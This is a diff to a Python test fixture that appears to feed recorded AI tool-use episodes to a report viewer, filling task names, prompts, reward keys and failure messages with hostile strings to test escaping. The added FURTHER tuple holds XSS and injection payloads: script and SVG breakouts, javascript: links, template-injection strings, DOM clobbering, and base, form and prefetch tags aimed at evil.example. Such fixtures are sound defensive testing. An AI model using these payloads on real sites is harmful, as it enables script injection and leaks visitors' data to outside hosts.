@@ -21,6 +21,22 @@ PAYLOADS = (
 )
 """What a model, a tool, a data set or a recording may hold to break out of the page."""
 
+FURTHER = (
+    "</SCRIPT\t><script/x>document.title='hacked'</script >",
+    "<svg><script>document.title='hacked'</script><style>@import'https://evil.example'</style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=document.title=1>'>",
+    "data:text/html,<script>document.title='hacked'</script>",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'/>",
+    "&#x3c;script&#x3e;document.title=1&lt;/script&gt; &NewLine; +ADw-script+AD4-document.title=1+ADw-/script+AD4-",
+    "${document.title=1} {{constructor.constructor('document.title=1')()}} <%= 1 %> %s %(x)s {0} \\x3cscript\\x3e",
+    "<a href=javascript:document.title=1 target=_top>x</a><base href=https://evil.example><form action=//evil.example>",
+    "<img srcset=https://evil.example/a.png><link rel=prefetch href=//evil.example><object data=//evil.example>",
+    "line\u2028paragraph\u2029tag\U000e0041end\ufeffmark\u2066isolate\u2069\ufffe\r\nnext",
+    '#e0" tabindex=0 autofocus accesskey=x contenteditable onbeforeinput=document.title=1 "',
+    "<b id=search>clobber</b><input id=list name=shown><p hidden class=here data-cell=none-called>",
+)
+"""More of them: other forms of the same, and what other places than HTML would obey."""
+
 
 def image(shade, width=64, height=48):
     return np.full((height, width, 3), shade, np.uint8)
@@ -66,6 +82,8 @@ class Played:
     outcome: Outcome
     turns: tuple = ()
     prompt: str = "the prompt <image>"
+    further: dict = dataclasses.field(default_factory=dict)
+    failure: str = ""
 
 
 def played(name, necessity=Necessity.NONE, *, right=True, calls=0, **changes):
@@ -87,7 +105,7 @@ def record(folder, episodes):
         writer.write(Event(kind="reset", given=given, returned={"observation": seen, "info": blank}))
         for number, (action, results) in enumerate(episode.turns, start=1):
             is_last = number == len(episode.turns)
-            paid = {"reward_components/reward": episode.outcome.answer_score} if is_last else {}
+            paid = {"reward_components/reward": episode.outcome.answer_score, **episode.further} if is_last else {}
             returned = {
                 "observation": {"system": "", "text": "", "images": ()},
                 "reward": 0.0,
@@ -95,7 +113,9 @@ def record(folder, episodes):
                 "truncated": False,
                 "info": (episode.outcome.to_info() if is_last else blank) | paid,
             }
-            writer.write(Event(kind="step", given={"action": action}, returned=returned, results=tuple(results)))
+            failure = episode.failure if is_last else ""
+            given = {"action": action}
+            writer.write(Event(kind="step", given=given, returned=returned, results=tuple(results), failure=failure))
     writer.close()
     return folder
 
@@ -108,10 +128,10 @@ def four_cells():
     return [*rows, played("missed-0", Necessity.REQUIRED, right=False)]
 
 
-def hostile():
+def hostile(payloads=PAYLOADS):
     """Every payload in every place that somebody else writes."""
     rows = []
-    for number, payload in enumerate(PAYLOADS):
+    for number, payload in enumerate(payloads):
         of = task(
             f"{number}{payload}",
             family=payload,
@@ -130,5 +150,8 @@ def hostile():
             captions=(payload,),
         )
         turns = ((f"{payload} image_1.crop((0, 0, 20, 20))", (result,)), (f"<answer>{payload}</answer>", ()))
-        rows.append(Played(of, outcome(of, calls=1, tool_calls_by={payload: 1}), turns, prompt=payload))
+        further = {f"reward_components/{payload}": 1.0, payload: payload}
+        failure = payload if number % 4 == 3 else ""  # of an episode that failed, nothing else is told
+        made = outcome(of, calls=1, tool_calls_by={payload: 1})
+        rows.append(Played(of, made, turns, prompt=payload, further=further, failure=failure))
     return rows
